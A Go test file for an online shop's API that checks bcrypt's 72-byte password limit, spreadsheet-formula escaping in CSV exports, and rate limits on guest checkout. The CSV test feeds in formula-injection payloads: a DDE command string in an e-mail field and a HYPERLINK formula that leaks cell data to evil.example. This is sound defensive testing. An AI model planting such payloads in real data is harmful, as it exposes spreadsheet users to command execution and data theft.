package api_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"shop/internal/app"
	"shop/internal/app/apptest"
	"shop/internal/demo"
	"shop/internal/platform/config"
)

// TestPasswordOver72Bytes422: bcrypt reads at most 72 bytes of a password and refuses more; every
// form that sets a password answers 422 naming the limit (in bytes: a Cyrillic letter takes two),
// never 500.
func TestPasswordOver72Bytes422(t *testing.T) {
	t.Parallel()
	apptest.Run(t, func(t *testing.T, a *app.App) {
		ts := newTestServer(t, a)
		long := strings.Repeat("ш", 37) // 37 letters, 74 bytes
		staffID := strconv.FormatUint(ts.userID(ts.staff), 10)
		forms := []struct {
			name, method, path, token string
			body                      map[string]any
		}{
			{"register", "POST", "/api/v1/register", "",
				map[string]any{"name": "Ana Anić", "email": "ana@example.rs", "password": long, "password_confirmation": long}},
			{"reset", "POST", "/api/v1/password/reset", "",
				map[string]any{"token": "x", "email": "kupac@demo.local", "password": long, "password_confirmation": long}},
			{"userCreate", "POST", "/api/v1/admin/users", ts.admin, newUser("Ana Anić", "ana@shop.rs", long, long, demo.StaffRole)},
			{"userUpdate", "PATCH", "/api/v1/admin/users/" + staffID, ts.admin, map[string]any{"password": long, "password_confirmation": long}},
		}
		for _, f := range forms {
			for lang, want := range map[string]string{
				"":   "Polje može sadržati maksimum 72 bajtova (slovo sa kvačicom ili ćirilično zauzima dva)",
				"en": "The field may contain at most 72 bytes (a letter with a diacritic or a Cyrillic letter takes two)",
			} {
				r := ts.do(req{method: f.method, path: f.path, token: f.token, body: f.body, lang: lang})
				if r.Status != 422 || firstError(r, "password") != want {
					t.Errorf("%s (%q): %d %s, want 422 with the limit", f.name, lang, r.Status, r.Raw)
				}
			}
		}
		// 72 bytes exactly is a password.
		ok := strings.Repeat("ш", 36)
		r := ts.do(req{method: "POST", path: "/api/v1/register", body: map[string]any{"name": "Ana Anić", "email": "ana@example.rs", "password": ok, "password_confirmation": ok}})
		if r.Status != 201 {
			t.Fatalf("72 bytes: %d %s", r.Status, r.Raw)
		}
		if r := ts.do(req{method: "POST", path: "/api/v1/login", body: loginBody("ana@example.rs", ok)}); r.Status != 200 {
			t.Errorf("login with 72 bytes: %d %s", r.Status, r.Raw)
		}
	})
}

// TestCSVFormulaEscaped: a cell a spreadsheet would run as a formula comes out of the CSV files
// people open (the subscribers' export, a partner's CSV feed) with a leading apostrophe.
func TestCSVFormulaEscaped(t *testing.T) {
	t.Parallel()
	apptest.Run(t, func(t *testing.T, a *app.App) {
		ts := newTestServer(t, a)
		evil := "=cmd|calc!A0@example.com"
		if r := ts.do(req{method: "POST", path: "/api/v1/newsletter/subscribe", body: map[string]any{"email": evil}}); r.Status != 200 {
			t.Fatalf("subscribe: %d %s", r.Status, r.Raw)
		}
		r := ts.do(req{method: "GET", path: "/api/v1/admin/newsletter/subscribers/export?format=csv", token: ts.admin})
		recs, err := csv.NewReader(bytes.NewReader(r.Raw)).ReadAll()
		if r.Status != 200 || err != nil || len(recs) != 2 || recs[1][0] != "'"+strings.ToLower(evil) {
			t.Errorf("subscribers' CSV: %d %v %q, want the address escaped", r.Status, err, recs)
		}

		laptops, _ := partnerCatalogue(t, a)
		if err := a.DB.Exec(`UPDATE products SET name = ? WHERE sku = 'LAP-1'`, `=HYPERLINK("http://evil.example/?"&A1,"Klik")`).Error; err != nil {
			t.Fatal(err)
		}
		body, ct := multipartForm(t, [][2]string{{"name", "Partner d.o.o."}, {"categories[0][id]", fmt.Sprint(laptops)}, {"categories[0][percentage]", "10"}})
		r = ts.do(req{method: "POST", path: "/api/v1/api-clients", token: ts.admin, raw: body, contentType: ct})
		if r.Status != 201 {
			t.Fatalf("api client: %d %s", r.Status, r.Raw)
		}
		feed := strings.TrimSuffix(feedPath(t, data(r)["api_url"].(string)), ".json") + ".csv"
		r = ts.do(req{method: "GET", path: feed})
		recs, err = csv.NewReader(bytes.NewReader(r.Raw)).ReadAll()
		if r.Status != 200 || err != nil || len(recs) != 2 || recs[1][1] != `'=HYPERLINK("http://evil.example/?"&A1,"Klik")` || recs[1][6] != "1320.00" {
			t.Errorf("partner CSV feed: %d %v %q, want the name escaped and the price as it was", r.Status, err, recs)
		}
	})
}

// TestGuestCheckoutLimits429: one address placing guest orders one after another is refused
// past its hourly limit (so a script cannot empty a product's stock), while a shopper at another
// address still buys; one e-mail is limited across addresses too.
func TestGuestCheckoutLimits429(t *testing.T) {
	t.Parallel()
	runWith(t, func(cfg *config.Config) {
		trustLoopback(cfg)
		cfg.Sales.GuestOrdersPerIPPerHour = 3
		cfg.Sales.GuestOrdersPerEmailPerHour = 2
	}, func(t *testing.T, a *app.App) {
		fx := newSalesFixture(t, a)
		ts := fx.ts
		phone := fx.product(t, "Telefon", 1000, 20)
		order := func(ip, email, lang string) resp {
			t.Helper()
			cart := fx.guestCart(t, map[uint64]int{phone: 1})
			return ts.do(req{method: "POST", path: "/api/v1/orders", header: forwardedFrom(ip), lang: lang,
				body: checkoutForm(cart, map[string]any{"email": email})})
		}
		for i := range 3 {
			if r := order("203.0.113.50", fmt.Sprintf("bot%d@example.rs", i), ""); r.Status != 201 {
				t.Fatalf("bot order %d: %d %s", i+1, r.Status, r.Raw)
			}
		}
		r := order("203.0.113.50", "bot9@example.rs", "")
		if r.Status != 429 || !strings.HasPrefix(message(r), "Previše porudžbina. Pokušajte ponovo za ") || r.Header.Get("Retry-After") == "" {
			t.Fatalf("fourth order from one address: %d %s, want 429", r.Status, r.Raw)
		}
		if r := order("203.0.113.50", "bot10@example.rs", "en"); r.Status != 429 || !strings.HasPrefix(message(r), "Too many orders. Please try again in ") {
			t.Errorf("in English: %d %s", r.Status, r.Raw)
		}
		// A real shopper elsewhere still buys.
		if r := order("198.51.100.60", "kupac@example.rs", ""); r.Status != 201 {
			t.Fatalf("another address: %d %s, want 201", r.Status, r.Raw)
		}
		if got := fx.stock(t, phone); got != 16 {
			t.Errorf("stock %d after four orders, want 16 (refused orders take nothing)", got)
		}
		// One e-mail over several addresses.
		if r := order("198.51.100.61", "kupac@example.rs", ""); r.Status != 201 {
			t.Fatalf("the e-mail's second order: %d %s", r.Status, r.Raw)
		}
		if r := order("198.51.100.62", "KUPAC@example.rs", ""); r.Status != 429 {
			t.Errorf("the e-mail's third order from a third address: %d %s, want 429", r.Status, r.Raw)
		}
	})
}
